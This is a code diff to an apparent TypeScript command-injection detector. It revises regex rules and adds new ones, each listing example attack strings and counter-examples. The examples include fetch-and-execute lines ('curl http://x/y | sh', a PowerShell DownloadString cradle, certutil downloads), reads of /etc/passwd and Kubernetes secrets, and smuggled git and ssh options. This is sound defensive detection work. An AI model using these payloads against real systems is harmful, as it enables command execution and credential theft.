@@ -4,6 +4,9 @@ import { type Detector, inputPlaces } from "../types.ts";
 /** A header's value may have parts with semicolons between them. */
 const valuePlaces = inputPlaces.filter((place) => place !== "header" && !place.startsWith("response"));
 
+/** What may stand before a separator: a value, not a sentence. */
+const first = String.raw`^(?:[^Nwe\x60]*[we]){0,3}[^Nwe\x60]*`;
+
 export const detector: Detector = {
   name: "command-injection",
   title: "OS command injection",
@@ -14,32 +17,32 @@ export const detector: Detector = {
   findings: [
     {
       id: "separated-command", why: "A command's separator is followed by the name of a command.", over: "shell", score: 5,
-      pattern: /^[^N]{0,12}[;|&AB(S]+v?\{?[ob]*[CW]/,
+      pattern: new RegExp(String.raw`${first}[;|&AB(S]+v?\{?[ob]*[CW]`),
       examples: ["x; whoami", "a|ifconfig", "$(uname -a)", "127.0.0.1 && nslookup x", "www.a.example;w\\hoami"],
       counterExamples: ["Use `ls` first", "Tom & Jerry", "one; two"],
     },
     {
       id: "separated-call", why: "A command's separator is followed by a command and its arguments.", over: "shell", score: 5,
-      pattern: /^[^N]{0,10}(?:[;&AB(S]+v?\{?[ob]*[clt][fPpuivdG<>`]|[(S]\{?[ob]*[clt](?:\)|$)|\|[ob]*[clt][fPpuivG<>])/,
+      pattern: new RegExp(String.raw`${first}(?:[;&AB(S]+v?\{?[ob]*[clt][fPpuivdG<>${"`"}]|[(S]\{?[ob]*[clt](?:\)|$)|\|[ob]*[clt][fPpuivG<>])`),
       examples: ["; ls -la", "x & dir c:\\", "a | cat /etc/passwd", "$(id)", "|| ping -c 3 127.0.0.1"],
       counterExamples: ["| id | name |", "cat; dog", "Salt & pepper; more"],
     },
     {
       id: "separated-end", why: "A command's separator is followed by a command, and then by the end or another separator.", over: "shell", score: 5, places: valuePlaces,
-      pattern: /^[^N]{0,10}(?:[;&AB][ob]*[ct](?:$|[;|N]|n$)|\|[ob]*[ct](?:$|[;&N]))|^[a-z]?\|[ob]*[clt]\|$|[;&|AB`(][ob]*[Wclte]w?H[ob]*[WCcltew]|^[^N]{0,3}v+f/,
+      pattern: new RegExp(String.raw`${first}(?:[;AB][ob]*[ct](?:$|[;|N]|n$)|&[ob]*[ct](?:$|[|N]|n$)|\|[ob]*[ct](?:$|[;&N]))|^[a-z]?\|[ob]*[clt]\|$|[;&|AB${"`"}(][ob]*[Wclte]w?H[ob]*[WCcltew]|^[^N]{0,3}v+f`),
       examples: ["x;id", "127.0.0.1 && ls", "x | sh", "a;ps;"],
       counterExamples: ["| id | name |", "Salt & pepper", "x ; y"],
     },
     {
       id: "separated-word", why: "A command's separator is followed by a command that is also a word, with the arguments of a command.", over: "shell", score: 5,
-      pattern: /^[^N]{0,10}[;|&AB(S]+[ob]*(?:[el][fPiGu]|e[clC]f|t[nif]|[le][<>H]P?|lw?f)/,
-      examples: ["a | sort -r", "& type c:\\boot.ini", "; sleep 10", "; find /etc -name passwd", "| bash -i"],
+      pattern: new RegExp(String.raw`${first}[;|&AB(S]+[ob]*(?:[el][fPiGu]|e[clC]f|t[if]|tn(?:$|[^w~]|w$)|[le][<>H]P?|l[we]?f|e[wnpd]f|e[^N;|&]{0,4}H)|[;|&AB]vH`),
+      examples: ["a | sort -r", "& type c:\\boot.ini", "; sleep 10", "; find /etc -name passwd", "| bash -i", "x;find . -exec y"],
       counterExamples: ["read; write", "Find & sort", "start; stop"],
     },
     {
       id: "separator-first", why: "The value begins with a separator of commands and the name of a command.", over: "shell", score: 5,
-      pattern: /^[;|&AB]+[ob]*(?:[WCct](?:$|[^|])|[el](?:$|[fPiGupdv;&]|w$))/,
-      examples: ["|id", "; ls", "& ping x", "';top'", "|vi (x"],
+      pattern: /^[;|&AB]+[ob]*(?:[WCct](?:$|[^|])|[el](?:$|[fPiGupdv&]|w$)|e[lWCct]$)|^[;|AB]+[el];|^[;AB]+[ob]*(?:l[^N]|e[^N]{0,6}(?:[fPpiuGvH>(`]|wn$))/,
+      examples: ["|id", "; ls", "& ping x", "';top'", "|vi (x", "; kubectl get secrets", "|| kill -9 1"],
       counterExamples: ["| id | name |", "& more of it all", "; then"],
     },
     {
@@ -50,19 +53,19 @@ export const detector: Detector = {
     },
     {
       id: "command-alone", why: "The value is nothing but a command.", over: "shell", score: 5,
-      pattern: /^[;N`]*[ob]*(?:W(?:[wdnet]{0,3}[;|N]*$|[|;&AB<>H])|[WC](?:dN*$|[wn]?[fPpuivG>|;&AB<H][^N]*N*$))/,
+      pattern: /^[;N`]*[ob]*(?:W(?:[dn]{0,3}[;|N]*$|w[;|N]+$|[|;&AB<>H])|[WC](?:dN*$|[wn]?[fPpuivG>](?:w{0,2}[^Nw])*w{0,2}N*$|[wn]?[|;&AB<H](?:[ob]*[WCctleP]|$)))/,
       examples: ["whoami", "ifconfig -a", "nslookup evil.example", "uname -a", "wget http://x/y"],
       counterExamples: ["curl", "whoami is a command that tells who you are", "hostname of the server", "curl hair tips"],
     },
     {
       id: "short-command", why: "The value is a command with its arguments.", over: "shell", score: 5,
-      pattern: /^[;N]*[ob]*(?:[ct](?:[fPGiu][^N]{0,16}|p|pp|dP|nPP?|aP[^N]{0,8}|[<>][Ppdw]|[wd]?[|;&][ob]*[WCct][^N]{0,8}|[;|])|l[fuP][^N]{0,16}|e(?:[pP][^N]{0,4}f[^N]{0,4}|[fP][^N]{0,6}[Ppfc<>|][^N]*|P|[a-z]{0,6}\|[^N]*[ob]*[lcCW]))N*$/,
+      pattern: /^[;N]*[ob]*(?:[ct](?:[fPGiu](?:w{0,2}[^Nw])*|[fPiu][^N|;&>]{0,4}[|;&>][ob]*[WCctle][^N]{0,8}|p|pp|dP|nPP?|aP[^N]{0,8}|[<>][Ppdw]|[wd]?[|;&][ob]*[WCct][^N]{0,8}|[;|])|l(?:[uP]|f[^N])(?:w{0,2}[^Nw])*w{0,2}|e(?:[pP][^N]{0,4}f[^N]{0,4}|[fP][^N]{0,6}[Ppfc<>|][^N]*|P|[a-z]{0,6}\|[^N]*[ob]*[lcCW]))N*$/,
       examples: ["ls -la", "cat /etc/passwd", "ping -c 3 127.0.0.1", "ping.exe -n 31 127.0.0.1", "python -c 'x'", "id;", "dir c:\\", "echo x | sh"],
       counterExamples: ["cat and dog", "python for beginners", "id", "ping pong table", "find love", "sort by date"],
     },
     {
       id: "command-path", why: "The value is a command with its folder.", over: "shell", score: 5,
-      pattern: /^[;N]*o?b[A-Za-z](?:$|[^N]{0,8}$)|[;|&AB`(S]o?b[A-Za-z]/,
+      pattern: /^[;N]*o?b(?:[WCcet](?:$|[^N]{0,8}$)|l[^N]{1,8}$)|[;|&AB`(S]o?b[A-Za-z]/,
       examples: ["/usr/bin/id", "/bin/cat /etc/shadow", "x;/bin/ls", "bin/visudo"],
       counterExamples: ["bin/out", "/usr/share/doc"],
     },
@@ -74,13 +77,13 @@ export const detector: Detector = {
     },
     {
       id: "piped-to-interpreter", why: "What a command prints is run by an interpreter.", over: "text", score: 5,
-      pattern: /^[^\n]*(?:\||<<<)\s*(?:[\w/]*\/)?(?:ba|z|k|da|a|c|tc)?sh\b\s*(?:$|[;&#'"`)-]|\s\w)|^[^\n]*\|\s*(?:[\w/]*\/)?(?:python\d?|perl|ruby|php|node)\s*(?:$|-\s*$|[;&'"`)])|\bbase64\s+(?:-d|-D|--decode)\s*\|/i,
+      pattern: /^(?:[^\s|<]*|[^\n|<]*\w[/.$=:-]\w[^\n]*|[^\n|<]*\s-\w[^\n]*)\s*(?:\||<<<)\s*(?:[\w/]*\/)?(?:ba|z|k|da|a|c|tc)?sh\b\s*(?:$|[;&#'"`)-]|\s\w)|^[^\n]*\|\s*(?:[\w/]*\/)?(?:python\d?|perl|ruby|php|node)\s*(?:$|-\s*$|[;&'"`)])|\bbase64\s+(?:-d|-D|--decode)\s*\|/i,
       examples: ["curl http://x/y | sh", "echo aWQ=|base64 -d|bash", "x|perl"],
       counterExamples: ["ash | oak", "a | shop", "curl x | jq ."],
     },
     {
       id: "command-at-end", why: "The value ends with a separator of shells and a command, whatever stands before.", over: "text", score: 5,
-      pattern: /(?:[;|&`]|\$\()[\t ]*(?:\/(?:usr\/)?s?bin\/)?(?:id|whoami|uname(?:\s+-a)?|hostname|ifconfig|ipconfig|netstat(?:\s+-\w+)?|ps\s+-?\w+|printenv|pwd|ls\s+-\w+|ls\s+\/\S*|dir|cat\s+\/\S+|type\s+[a-z]:\S+|sleep\s+\d+|ping\s+-[cn]\s+\d+\s+\S+|(?:curl|wget|nslookup|dig)\s+\S+\.\S+)\s*[)`;&|#'"]*\s*$/i,
+      pattern: /(?:`|\$\()[\t ]*(?:id|whoami|uname(?:\s+-a)?|ifconfig)[)`][;&|#'"]*\s*$|(?:[;|&]|\$\()[\t ]*(?:\/(?:usr\/)?s?bin\/)?(?:id|whoami|uname(?:\s+-a)?|hostname|ifconfig|ipconfig|netstat(?:\s+-\w+)?|ps\s+-?\w+|printenv|pwd|ls\s+-\w+|ls\s+\/\S*|dir|cat\s+\/\S+|type\s+[a-z]:\S+|sleep\s+\d+|ping\s+-[cn]\s+\d+\s+\S+|(?:curl|wget|nslookup|dig)\s+\S+\.\S+)\s*[)`;&|#'"]*\s*$/i,
       examples: ["hello hello hello; ls -la", "a long text | id", "name=x && whoami", "x $(id)", "x `id`", "lorem; cat /etc/hosts"],
       counterExamples: ["id; name; price", "the cat | dog", "run ls -la", "sleep; 8 hours"],
     },
@@ -98,7 +101,7 @@ export const detector: Detector = {
     },
     {
       id: "shellshock", why: "A function definition that old versions of Bash run on (CVE-2014-6271).", over: "text", score: 8,
-      pattern: /^[\s"'`]*\(\s*\)\s*\{\s*(?:$|[^\n]*;\s*\}\s*;)|\(\)\s*\{\s*[:_]\s*;\s*\}\s*;/,
+      pattern: /^[\s"'`]*\(\s*\)\s*\{\s*(?:$|[^\n]*;\s*\}\s*;)|\(\)\s*\{\s*[:_]\s*;\s*\}\s*(?:;|>_\[)/,
       examples: ["() { :;}; /bin/bash -c 'id'", "() {"],
       counterExamples: ["main() {\n  return;\n}", "() => {}", "f() { return 1 }"],
     },
@@ -116,7 +119,7 @@ export const detector: Detector = {
     },
     {
       id: "field-separator", why: "Words are separated by the shell's variable IFS instead of by spaces.", over: "text", score: 8,
-      pattern: /\$(?:IFS\b|\{IFS[^}\n]{0,12}\})[^\s=]{0,3}[\w/$'"-]|\w\$(?:IFS\b|\{IFS\})/,
+      pattern: /\$\{\w+:\d+:\d+\}|\$(?:IFS\b|\{IFS[^}\n]{0,12}\})[^\s=]{0,3}[\w/$'"-]|\w\$(?:IFS\b|\{IFS\})/,
       examples: ["cat$IFS/etc/passwd", "ls${IFS}-la", "cat${IFS%??}x"],
       counterExamples: ["OLDIFS=$IFS", "IFS=$'\\n'"],
     },
@@ -127,6 +130,42 @@ export const detector: Detector = {
       counterExamples: ["{a: 1, b: 2}", "{\"ls\":1,\"b\":2}", "{name}", "{ls , b}"],
     },
     {
+      id: "glued-substitution", why: "A command in backquotes or $() is part of a word, as one that is put together.", over: "text", score: 5,
+      pattern: /[\w.@\/=-]`\s*(?:\/(?:usr\/)?s?bin\/)?(?:id|whoami|hostname|uname|ls|cat|pwd|sleep|ping|nslookup|dig|curl|wget|echo|printf|sh|bash|nc|env|ps|ifconfig)(?:\s[^`\n]*)?`|(?:^|[^\\\w$])`(?:id|whoami|hostname|uname(?:\s-\w+)?)`[\w.@\/-]|[\w.@\/=-]\$\(\s*(?:id|whoami|hostname|uname|ls|cat|pwd|sleep|ping|nslookup|dig|curl|wget|printf)\b[^)\n]*\)|\$\((?:id|whoami|hostname|uname(?:\s-\w+)?)\)|=`[a-z][^`\n]*`(?:$|&)|\(`(?:id|whoami|uname[^`\n]*)`\)|^\((?:id|whoami|uname|hostname)[ )|]|&\s*\(\s*(?:['"][^'"\n]+['"]\s*\+|(?:gcm|get-command)\s)/i,
+      examples: ["invoice-`id`.pdf", "`whoami`.x.example", "http://x.example/$(id)", "poller=`touch /tmp/x`", "&('who'+'ami')"],
+      counterExamples: ["the `id` of it", "`ls` lists", "x-`y`-z"],
+    },
+    {
+      id: "path-behind-separator", why: "A separator of shells is followed by the path of a program.", over: "text", score: 5,
+      pattern: /[;|&`]\s*\/(?:usr\/)?(?:local\/)?s?bin\/[a-z]|[;|&]\s*\.\s+\/\w/i,
+      examples: ["x;/usr/sbin/telnetd -p 9191", "a | /bin/x", ";. /tmp/x"],
+      counterExamples: ["use /usr/bin/env", "or /bin/sh"],
+    },
+    {
+      id: "argument", why: "An option that makes a program run another, or read and write files, where a value was expected (CWE-88).", over: "text", score: 5,
+      pattern: /^[\s"']*-{1,2}(?:upload-pack|receive-pack|exec|eval|use-askpass|post-file|body-file|to-command|use-compress-program|rsh(?:-command)?|unzip-command|pager|gpu-launcher|renderer-cmd-prefix|utility-cmd-prefix|sendmail|open-files-in-pager|rcfile|init-file|include|import)[ =]\S|\bcheckpoint-action=exec|--(?:unzip-command|to-command|use-askpass|rsh-command|use-compress-program)=\S|(?:^|\s)-OQueueDirectory=|(?:^|\s)-X\s?\/(?:var|srv|home|tmp|opt)\/|(?:^|\s)-o\s?(?:proxycommand|localcommand|permitlocalcommand)[= ]|\bproxycommand=|\bupload-pack=\S|\balias\.\w+=!|\bcore\.(?:sshcommand|gitproxy|fsmonitor|pager|editor|hookspath)=|\bext::(?:ba)?sh\b|^-be\s+\$\{run/i,
+      examples: ["--upload-pack=touch /tmp/x", "-oProxyCommand=id", "--checkpoint=1 --checkpoint-action=exec=sh x.sh", "ext::sh -c id"],
+      counterExamples: ["--verbose", "the option --exec of find", "-o file.txt"],
+    },
+    {
+      id: "escaped-string", why: "A shell's string of escapes, which no letters show.", over: "text", score: 5,
+      pattern: /\$'(?:[^'\n]{0,32}\\(?:x[0-9a-f]{2}|[0-7]{3}|u[0-9a-f]{4})){2}/i,
+      examples: ["$'\\x69\\x64'"],
+      counterExamples: ["$'x'", "IFS=$'\\n'"],
+    },
+    {
+      id: "loop", why: "A separator of shells is followed by a loop or a test.", over: "text", score: 5,
+      pattern: /^[^\n;&|]*[;&|]\s*(?:for\s+\w+\s+in\s[^;\n]+;\s*do\s|if\s+(?:\[|test\s)[^;\n]+;\s*then\s|(?:while|until)\s+(?:read|true|:|\[|!)[^;\n]*;\s*do\s)/,
+      examples: [";for i in /*; do echo $i; done", "x;if [ 1 = 1 ]; then y; fi"],
+      counterExamples: ["wait; if it rains, then stay", "for you in time; do it"],
+    },
+    {
+      id: "powershell-ticks", why: "Backquotes break up a word of PowerShell.", over: "text", score: 5,
+      pattern: /(?:^|[;|&(])\s*[a-z]+`[a-z](?:`?[a-z-])*[\s(]|-[a-z]+`[a-z](?:`?[a-z])*[\s)]/i,
+      examples: ["; i`ex (x)", "(i`wr http://x -UseB`asic)"],
+      counterExamples: ["see `iex` here", "a `b` c"],
+    },
+    {
       id: "glob-path", why: "A path is spelt with the shell's patterns so that no name stands in it.", over: "shell", score: 5,
       pattern: /^[^N]{0,8}G/,
       examples: ["/???/??t /???/??ss??", "cat /et*/passwd", "/bin/ca? /et*/pa??wd", "cat /etc/pas[s]wd"],
@@ -134,25 +173,25 @@ export const detector: Detector = {
     },
     {
       id: "variables-as-command", why: "Parts of a command are put into variables, and the variables are run.", over: "shell", score: 5,
-      pattern: /^N?(?:a[^N;|&AB]{0,4}[;&AB|]+){1,32}v/,
-      examples: ["a=/etc&&b=/passwd&&c=cat&&$c $a$b", "c=who;$c"],
+      pattern: /^(?:[^N]{0,3}[;|&AB]+)?N?(?:e?a[^N;|&AB]{0,4}[;&AB|]+){1,32}v/,
+      examples: ["a=/etc&&b=/passwd&&c=cat&&$c $a$b", "c=who;$c", "x;a=i;b=d;$a$b"],
       counterExamples: ["a=1&b=2", "x=5; y=6"],
     },
     {
       id: "substitution", why: "The value is a substitution or an expansion of a shell with a command in it.", over: "text", score: 5,
-      pattern: /^[^\s$<>(]*[\s"']*(?:\$\(\s*[A-Za-z/$<][^\n(]*(?:\$\([^\n]*)?\)|[<>]\(\s*[\w/]+[^\n]*\)|\$\{\s*(?:`|\w+\s*[#%/]+\S)[^\n]*\}|\$\[\s*\d+\s*[-+*][^\n]*\]|\$\{\w+\}\s+-c\s)[\s"';)]*$|^\s*~(?:[+-]\d*|\d+)\s*$|^\s*!-?\d+(?:!-?\d+)*\s*$/,
-      examples: ["$(cmd)", "<(cmd)", "${PATH#{}/}", "$[2+2]", "~+", "!-1!-2"],
+      pattern: /^[^\s$<>(]*[\s"']*(?:\$\(\s*(?:[A-Za-z][\w-]*\s[^\n(]*|[/$<][^\n(]*)(?:\$\([^\n]*)?\)|[<>]\(\s*[\w/]+[^\n]*\)|\$\{\s*(?:`|\w+\s*[#%/]+\S)[^\n]*\}|\$\[\s*\d+\s*[-+*][^\n]*\]|\$\{\w+\}\s+-c\s)[\s"';)]*$|^\s*~[+-]\d*\s*$|^\s*!-?\d+(?:!-?\d+)*\s*$/,
+      examples: ["$(cmd x)", "<(cmd)", "${PATH#{}/}", "$[2+2]", "~+", "!-1!-2"],
       counterExamples: ["$(document).ready(function() {})", "$('#a').hide()", "cost ${price}", "~5 people", "!important"],
     },
     {
       id: "redirection", why: "The value writes to, or reads from, a file of the system.", over: "text", score: 5,
-      pattern: /^[^\n<>]*(?:>{1,2}|<)\s*\/?(?:tmp|dev|etc|var|root|home|proc|usr|bin|opt)\/[\w.-]|^[^\n]*[>]\s*(?:\/var\/www|\/usr\/share\/nginx)|^[^\n]*\d>&\d/,
+      pattern: /^(?:[^\s<>]+\s+){0,2}[^\s<>]*\s*(?:>{1,2}|<)\s*\/?(?:tmp|dev|etc|var|root|home|proc|usr|bin|opt)\/[\w.-]|>\s*(?:\/var\/www|\/usr\/share\/nginx)|^(?:[^\s]+\s+){0,4}[^\s]*\d>&\d\s*$/,
       examples: [">/tmp/curl", "id > /var/www/html/x", "x < /etc/passwd", "ls 2>&1"],
       counterExamples: ["a > b", "<home>", "x<y and y>z", "Home > etc"],
     },
     {
       id: "windows-call", why: "An interpreter of Windows is given code or a command.", over: "text", score: 5,
-      pattern: /\bcmd(?:\.exe)?\s*\/[ckr]\b\s*\S|\bpowershell(?:\.exe)?\s[^\n]*-(?:e|en|enc|enco\w*|nop\w*|noni\w*|w|windowstyle|exec\w*|ep|c|command|file)\b|\b(?:iex|invoke-expression)\b[^\n]{0,8}\(|\(?new-object\)?\s+(?:system\.)?net\.(?:webclient|sockets)|\.download(?:string|file)\s*\(|\[system\.(?:convert|text\.encoding|diagnostics|reflection)[^\n\]]*\]::|\bcertutil\b[^\n]*-(?:urlcache|decode)|\bbitsadmin\b[^\n]*\/transfer|\bmshta\s+(?:https?|vbscript|javascript):|\bregsvr32\b[^\n]*\/i:|\bnet\s+(?:user|localgroup|share|group|use|view|accounts)\b\s*(?:$|[\/\w]+\s+\/add|\/)|\breg\s+(?:query|add|save|export)\s+hk|\bwmic\s+(?:process|os|useraccount|\/node)/i,
+      pattern: /\bcmd(?:\.exe)?\s*\/[ckr]\b\s*\S|\bpowershell(?:\.exe)?\s[^\n]*-(?:e|en|enc|enco\w*|nop\w*|noni\w*|w|windowstyle|exec\w*|ep|c|command|file)\b|\b(?:iex|invoke-expression)\b(?:[^\n]{0,8}\(|\s+['"$])|\[char\[\]\]\s*\(|\(?new-object\)?\s+(?:system\.)?net\.(?:webclient|sockets)|\.download(?:string|file)\s*\(|\[system\.(?:convert|text\.encoding|diagnostics|reflection)[^\n\]]*\]::|\bcertutil\b[^\n]*-(?:urlcache|decode)|\bbitsadmin\b[^\n]*\/transfer|\bmshta\s+(?:https?|vbscript|javascript):|\bregsvr32\b[^\n]*\/i:|\bnet1?\s+(?:user|localgroup|share|group|use|view|accounts)\b\s*(?:$|[^\n]*\/(?:add|delete|domain|active)\b|\/)|\breg\s+(?:query|add|save|export)\s+hk|\bwmic\s+(?:process|os|useraccount|\/node)/i,
       examples: ["cmd /c dir", "powershell -enc SQBFAFgA", "IEX (New-Object Net.WebClient).DownloadString('http://x')", "certutil -urlcache -f http://x y", "net user"],
       counterExamples: ["command line", "powershell is nice", "the net user experience"],
     },
@@ -164,19 +203,19 @@ export const detector: Detector = {
     },
     {
       id: "windows-escape", why: "Carets or empty quotes break up a word of a Windows command line.", over: "text", score: 5,
-      pattern: /(?:[a-z]\^){3}|[a-z]\^[a-z]{1,8}\^[a-z]+\s+[-/\w]|%(?:comspec|systemroot|windir|path:~\d|programfiles:~\d|appdata|temp|username|userprofile|computername)[^%\s]*%/i,
+      pattern: /(?:[a-z]\^){3}|[a-z]\^[a-z]{1,8}\^[a-z]+\s+[-/\w]|^(?:[^\s]+\s+){0,2}[^\s]*%(?:comspec|systemroot|windir|path:~\d|programfiles:~\d|username|computername)[^%\s]*%/i,
       examples: ["w^h^o^a^mi", "%COMSPEC% /c dir", "%PATH:~0,1%"],
       counterExamples: ["x^2", "a^b", "100%"],
     },
     {
       id: "timed", why: "A command that waits or calls out stands after a break, as blind probes have it.", over: "text", score: 5,
-      pattern: /(?:^|[;|&`\n(]|%0a|\|\|)\s*(?:\/bin\/|\/usr\/bin\/)?(?:sleep\s+\d+|ping\s+-[nci]\s*\d+\s+[\w.]+|timeout\s+(?:\/t\s+)?\d+|nslookup\s+[\w.-]+\.\w+|(?:curl|wget)\s+(?:-\S+\s+)*(?:https?:\/\/|[\w-]+\.)[^\s]+)\s*(?:$|[;|&`#)'"])/i,
+      pattern: /(?:^(?:[^\s]+\s+){0,3}[^\s]*[;|&(]|^|\n|^[^\s`]*`|%0a)\s*(?:\/bin\/|\/usr\/bin\/)?(?:sleep\s+\d+|ping\s+-[nci]\s*\d+\s+[\w.]+|timeout\s+(?:\/t\s+)?\d+|nslookup\s+[\w.-]+\.\w+|(?:curl|wget)\s+(?:-\S+\s+)*(?:https?:\/\/|[\w-]+\.)[^\s]+)\s*(?:$|[;|&`#)'"])/i,
       examples: ["x\nsleep 5", "| /bin/sleep 31 ;", "||ping -c 10 127.0.0.1||", "`nslookup a.example.com`"],
       counterExamples: ["We sleep 8 hours", "time to ping"],
     },
     {
       id: "echo", why: "A separator of commands is followed by a command that prints one word, or lists processes.", over: "text", score: 5,
-      pattern: /^[^\n]*[;|&`(]\s?echo\s+[^\s;|&]+\s*(?:$|[;|&#`)])|^[\s;|&`]*ps\s+-?(?:auxw*|axu?|ef)\s*(?:$|[|;&])|\bset\s+\/a\s+["'(]?\d/,
+      pattern: /^(?:[^\s]+\s+){0,2}[^\s]*[;|&`(]\s?echo\s+[^\s;|&]+\s*(?:$|[;|&#`)])|^[\s;|&`]*ps\s+-?(?:auxw*|axu?|ef)\s*(?:$|[|;&])|\bset\s+\/a\s+["'(]?\d/,
       examples: ["x;echo 12345", "`echo a`", "ps aux", "|set /a (5+5)"],
       counterExamples: ["Home & Echo Dot", "an echo of it", "ps auxiliary"],
     },
